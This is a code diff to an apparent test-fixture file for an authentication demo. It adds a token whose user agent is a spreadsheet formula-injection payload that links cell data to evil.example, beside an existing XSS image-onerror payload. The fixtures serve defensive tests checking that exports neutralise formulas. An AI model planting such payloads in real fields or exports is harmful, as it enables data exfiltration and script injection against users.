@@ -32,6 +32,13 @@ export const FAILING_TOKEN_USER_AGENT = 'authms-demo/1.0 (rehearsal: revoking th
 export const HOSTILE_USER_AGENT_TOKEN_ID = 'tok_x5sb3jv7gq2k';
 export const HOSTILE_USER_AGENT = '<img src=x onerror=alert(1)>';
 
+/**
+ * The token whose user_agent is a spreadsheet formula with Chinese text in it (an active refresh token near the top of
+ * the default list): an export must neutralise the formula and keep the Chinese intact.
+ */
+export const FORMULA_USER_AGENT_TOKEN_ID = 'tok_f6rmulacqzuh';
+export const FORMULA_USER_AGENT = '=HYPERLINK("https://evil.example/?q="&A1,"点击查看详情")';
+
 /** The session whose user agent and location are hostile (markup, RTL override, very long text). */
 export const HOSTILE_SESSION_ID = 'ses_hostilesample1';
 /** The hostile session's IP address (TEST-NET-3): `?ip=` finds it, and only it, on the sessions page. */
